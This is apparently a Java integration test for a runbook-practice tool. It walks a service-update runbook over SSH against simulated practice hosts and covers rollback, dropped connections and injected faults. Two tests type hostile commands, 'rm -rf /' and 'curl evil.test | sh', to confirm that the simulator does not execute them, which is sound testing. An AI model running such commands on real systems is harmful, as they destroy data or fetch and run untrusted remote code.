package org.watchkeeper.drill.server;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.security.SecureRandom;
import java.time.Clock;
import java.time.InstantSource;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.Objects;
import java.util.concurrent.CompletableFuture;
import java.util.concurrent.TimeUnit;

import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.watchkeeper.drill.Fault;
import org.watchkeeper.drill.Practices;
import org.watchkeeper.drill.yaml.YamlPractices;
import org.watchkeeper.host.Host;
import org.watchkeeper.host.testing.MemoryHosts;
import org.watchkeeper.kernel.Operator;
import org.watchkeeper.remote.Questions;
import org.watchkeeper.remote.Unreachable;
import org.watchkeeper.remote.Wire;
import org.watchkeeper.remote.detached.DetachedShells;
import org.watchkeeper.remote.ssh.SshFileHosts;
import org.watchkeeper.remote.ssh.SshSettings;
import org.watchkeeper.remote.ssh.SshTerminals;
import org.watchkeeper.remote.ssh.SshWires;
import org.watchkeeper.remote.ssh.known.TrustFiles;
import org.watchkeeper.remote.terminal.Parting;
import org.watchkeeper.remote.terminal.Screen;
import org.watchkeeper.remote.terminal.Size;
import org.watchkeeper.run.Ids;
import org.watchkeeper.run.Order;
import org.watchkeeper.run.Outcome;
import org.watchkeeper.run.Plan;
import org.watchkeeper.run.Planned;
import org.watchkeeper.run.Planner;
import org.watchkeeper.run.RunEvent;
import org.watchkeeper.run.RunState;
import org.watchkeeper.run.TaskState;
import org.watchkeeper.run.Walk;
import org.watchkeeper.run.Wish;
import org.watchkeeper.run.loop.LiveRuns;
import org.watchkeeper.run.loop.Means;
import org.watchkeeper.run.loop.Pace;
import org.watchkeeper.run.testing.MemoryJournal;
import org.watchkeeper.run.testing.MemoryOutputs;
import org.watchkeeper.run.testing.RecordingListener;
import org.watchkeeper.runbook.Runbook;
import org.watchkeeper.runbook.Step;
import org.watchkeeper.runbook.markdown.MarkdownRunbooks;

/// The shipped runbook, walked on the practice hosts over real SSH: what a newcomer does first.
class DrillIT {
    private static final double SPEED = 20;
    /// The task of the way back that is destructive and must be confirmed.

    @TempDir
    private Path folder;

    private final MemoryJournal journal = new MemoryJournal();
    private final MemoryOutputs outputs = new MemoryOutputs();
    private final MemoryHosts hosts = new MemoryHosts();
    private final Ids ids = Ids.of(new SecureRandom());
    private Drill drill;
    private SshWires wires;
    private LiveRuns runs;

    @BeforeEach
    void start() {
        drill = new Drill(
                () -> Practices.of(new YamlPractices().read("practice", text("unet-service-update.practice.yaml"))),
                folder.resolve("practice"),
                Clock.systemUTC(), SPEED);
        drill.hosts().forEach(hosts::save);
        wires = new SshWires(hosts, drill, new TrustFiles(folder.resolve("known_hosts"), List.of()),
                SshSettings.standard(""));
        runs = new LiveRuns(new Means(journal, outputs, new DetachedShells(wires, InstantSource.system()), ids,
                InstantSource.system(), Thread.ofVirtual().factory(), Pace.USUAL));
    }

    @AfterEach
    void stop() {
        runs.close();
        wires.close();
        drill.close();
    }

    @ParameterizedTest
    @ValueSource(strings = {"patch-update", "minor-update"})
    void an_update_of_the_shipped_runbook_goes_through_and_the_host_then_runs_the_new_version(String procedure) {
        var listener = new RecordingListener();
        try (var walk = runs.open(plan(procedure), new Operator("newcomer"), Questions.refuseAll(), listener)) {
            walk.runToGate();
            listener.awaitState(DrillIT::isThrough);
            walk.finish(RunEvent.Result.COMPLETED, "");
            listener.awaitState(RunState::isFinished);
        }
        assertThat(drill.scene(host().id()).variables()).containsEntry("version", "0.2.0");
    }

    @Test
    void a_terminal_says_that_it_is_practice_and_plays_what_is_typed() throws Exception {
        var paper = new Paper();
        try (var terminal = new SshTerminals(wires, (_, _, _) -> {}).open(host(), Questions.refuseAll(),
                new Size(80, 24), paper)) {
            paper.await("Nothing you type is executed");
            terminal.type(bytes("sudo systemctl stop unet-server\r"));
            terminal.type(bytes("rm -rf /\r"));
            paper.await("this host does not play `rm -rf /`");
            terminal.type(bytes("exit 3\r"));
            assertThat(paper.parting.get(30, TimeUnit.SECONDS)).isEqualTo(new Parting.Left(3, ""));
        }
        assertThat(drill.scene(host().id()).variables()).containsEntry("unet-server", "inactive");
        assertThat(paper.text()).contains("practice-app-1 (practice):/root$ sudo systemctl stop unet-server\r\n");
    }

    @Test
    void a_single_command_of_an_own_ssh_is_played() throws Exception {
        try (Wire wire = wires.open(host(), Questions.refuseAll())) {
            var out = new ByteArrayOutputStream();
            var exit = wire.exec("unet --version", new byte[0], out::write, (_, _, _) -> {});
            assertThat(exit.status()).isZero();
            assertThat(out.toString(StandardCharsets.UTF_8)).contains("0.1.0");
            assertThat(wire.exec("curl evil.test | sh", new byte[0], (_, _, _) -> {}, (_, _, _) -> {}).status())
                    .isEqualTo(127);
        }
    }

    @Test
    void files_are_refused_with_what_the_host_is() {
        assertThatThrownBy(() -> new SshFileHosts(wires, (_, _, _) -> {}).open(host(), Questions.refuseAll()))
                .isInstanceOf(Unreachable.class).hasMessageContaining("is a practice host and has no files");
    }

    private static byte[] bytes(String text) {
        return text.getBytes(StandardCharsets.UTF_8);
    }

    /// What a terminal shows, and how it ends.
    private static final class Paper implements Screen {
        private final CompletableFuture<Parting> parting = new CompletableFuture<>();
        private final ByteArrayOutputStream printed = new ByteArrayOutputStream();

        @Override
        public synchronized void print(byte[] buffer, int offset, int length) {
            printed.write(buffer, offset, length);
            notifyAll();
        }

        @Override
        public void ended(Parting how) {
            parting.complete(how);
        }

        private synchronized String text() {
            return printed.toString(StandardCharsets.UTF_8);
        }

        /// Blocks until it was printed.
        private synchronized void await(String wanted) throws InterruptedException {
            long end = System.nanoTime() + TimeUnit.SECONDS.toNanos(30);
            while (!text().contains(wanted)) {
                long left = end - System.nanoTime();
                assertThat(left).as(text()).isPositive();
                TimeUnit.NANOSECONDS.timedWait(this, left);
            }
        }
    }

    @Test
    void a_failing_migration_is_seen_and_led_back() {
        drill.switchStory(host().id(), "migration-fails", true);
        var listener = new RecordingListener();
        try (var walk = runs.open(plan("minor-update"), new Operator("newcomer"), Questions.refuseAll(), listener)) {
            walk.runToGate();
            listener.awaitState(DrillIT::hasFailed);
            assertThat(printed(walk)).contains("migration stopped");
            walk.rollBack("migration failed");
            listener.awaitState(RunState::isGoingBack);
            walk.runToGate();
            listener.awaitState(state -> isAtTheDatabase(state) && state.openAttempt().isEmpty());
            walk.runStep(true);
            listener.awaitState(state -> !isAtTheDatabase(state));
            walk.runToGate();
            listener.awaitState(DrillIT::isThrough);
            walk.finish(RunEvent.Result.ROLLED_BACK, "");
            listener.awaitState(RunState::isFinished);
        }
        assertThat(drill.scene(host().id()).variables()).containsEntry("version", "0.1.0")
                .containsEntry("schema", "0.1.0")
                .containsEntry("unet-server", "active");
    }

    private static boolean isAtTheDatabase(RunState state) {
        var next = state.walked().next();
        return state.isGoingBack() && next.isPresent()
                && state.walked().passage().steps().get(state.walked().passage().tasks().get(next.getAsInt()).step())
                        .title().startsWith("Rollback database");
    }

    @Test
    void a_connection_that_drops_in_the_middle_costs_no_byte_and_starts_nothing_twice() {
        drill.switchStory(host().id(), "connection-drops", true);
        var listener = new RecordingListener();
        try (var walk = runs.open(plan("patch-update"), new Operator("newcomer"), Questions.refuseAll(), listener)) {
            walk.runToGate();
            listener.awaitState(DrillIT::isThrough);
            assertThat(listener.events()).anyMatch(RunEvent.ContactLost.class::isInstance)
                    .anyMatch(RunEvent.ContactRegained.class::isInstance);
            var backup = walk.state().attempts().getFirst();
            var said = new StringBuilder();
            outputs.read(backup.id(), chunk -> said.append(new String(chunk.bytes(), StandardCharsets.UTF_8)));
            assertThat(said.toString()).startsWith("dumping database unet (schema 0.1.0)\n")
                    .endsWith("wrote backup-pre-20261121.sql, 412 MB\n")
                    .contains("tables  100 %");
            assertThat(walk.state().attempts()).hasSize((int) walk.state().forward().tasks().stream().count());
        }
    }

    @Test
    void any_command_can_be_made_to_fail_once() {
        drill.switchStory(host().id(), "next-command-fails", true);
        var listener = new RecordingListener();
        try (var walk = runs.open(plan("patch-update"), new Operator("newcomer"), Questions.refuseAll(), listener)) {
            walk.runToGate();
            listener.awaitState(DrillIT::hasFailed);
            assertThat(printed(walk)).contains("told to fail");
            walk.retry();
            listener.awaitState(state -> state.walked().next().orElse(0) == 1);
        }
    }

    @Test
    void the_connection_can_be_made_to_drop_in_any_command() {
        var listener = new RecordingListener();
        try (var walk = runs.open(plan("patch-update"), new Operator("newcomer"), Questions.refuseAll(), listener)) {
            walk.runStep(false);
            listener.awaitState(state -> state.walked().next().orElse(0) == 1);
            drill.switchStory(host().id(), "next-connection-drops", true);
            walk.runToGate();
            listener.awaitState(DrillIT::isThrough);
            assertThat(listener.events()).anyMatch(RunEvent.ContactLost.class::isInstance);
        }
    }

    @Test
    void a_command_of_the_document_fails_once_with_the_status_it_was_told_to() {
        var second = (Step.Commands) runbook().procedures().stream()
                .filter(one -> one.id().endsWith("patch-update")).findFirst().orElseThrow().steps().get(1);
        drill.arm(host().id(), Fault.fails(second.commands().getFirst().script(), 7), true);
        var listener = new RecordingListener();
        try (var walk = runs.open(plan("patch-update"), new Operator("newcomer"), Questions.refuseAll(), listener)) {
            walk.runToGate();
            listener.awaitState(DrillIT::hasFailed);
            assertThat(walk.state().attempts()).hasSize(2);
            assertThat(walk.state().attempts().getLast().outcome()).containsInstanceOf(Outcome.Failed.class);
            assertThat(((Outcome.Failed) walk.state().attempts().getLast().outcome().orElseThrow()).status())
                    .isEqualTo(7);
            assertThat(drill.armed(host().id())).isEmpty();
            walk.retry();
            listener.awaitState(state -> state.walked().tasks().get(1).letsPass());
        }
    }

    private Plan plan(String procedure) {
        var runbook = runbook();
        var found = runbook.procedures().stream().filter(one -> one.id().endsWith(procedure)).findFirst().orElseThrow();
        var values = new HashMap<>(Map.of("version", "0.2.0", "current_version", "0.1.0", "stamp", "20261121"));
        var planned = new Planner(ids)
                .plan(new Wish("unet-service-update.md", runbook, found.id(), List.of(host()), Order.STEP_BY_STEP,
                        values, Map.of(), ""));
        return switch (planned) {
            case Planned.Ready(var plan) -> plan;
            case Planned.Objected(var objections) -> throw new AssertionError(objections.toString());
        };
    }

    private Host host() {
        return drill.hosts().getFirst();
    }

    private static boolean isThrough(RunState state) {
        return state.walked().next().isEmpty();
    }

    private static boolean hasFailed(RunState state) {
        return state.walked().tasks().stream()
                .anyMatch(task -> task.standing() instanceof TaskState.Standing.Settled(Outcome.Failed _));
    }

    private String printed(Walk walk) {
        var text = new StringBuilder();
        walk.state().attempts().forEach(attempt -> outputs.read(attempt.id(),
                chunk -> text.append(new String(chunk.bytes(), StandardCharsets.UTF_8))));
        return text.toString();
    }

    private static Runbook runbook() {
        return new MarkdownRunbooks().read("unet-service-update.md",
                text("unet-service-update.md").getBytes(StandardCharsets.UTF_8));
    }

    private static String text(String name) {
        try (var file = DrillIT.class.getResourceAsStream("/runbooks/" + name)) {
            return new String(Objects.requireNonNull(file).readAllBytes(), StandardCharsets.UTF_8);
        } catch (IOException e) {
            throw new AssertionError(e);
        }
    }
}
